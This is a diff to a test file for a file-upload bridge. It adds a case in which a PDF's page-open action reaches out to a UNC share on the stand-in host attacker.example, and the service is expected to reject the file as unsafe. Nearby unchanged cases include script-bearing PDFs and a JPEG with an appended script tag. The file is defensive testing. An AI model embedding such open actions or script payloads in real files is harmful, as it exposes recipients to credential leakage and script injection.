@@ -126,6 +126,8 @@ def test_an_agent_sends_a_pdf_which_the_customer_receives_as_a_download(bridge):
     (b"just some words", "notes.txt", 415, "unsupported_type"),
     (pdf_with_script(), "statement.pdf", 422, "unsafe_file"),
     (pdf_hiding_script(), "statement.pdf", 422, "unsafe_file"),
+    (pdf().replace(b"/MediaBox", b"/AA << /O << /S /GoToR /F (\\\\attacker.example\\share\\x.pdf) >> >> /MediaBox"),
+     "letter.pdf", 422, "unsafe_file"),  # trial 16: a UNC share opened with the page ("Bad-PDF")
     (image("PNG")[:-9], "cut.png", 422, "malformed_file"),
     (image("JPEG") + b"<script>alert(1)</script>", "tail.jpg", 422, "malformed_file"),
     (b"", "empty.png", 422, "malformed_file"),
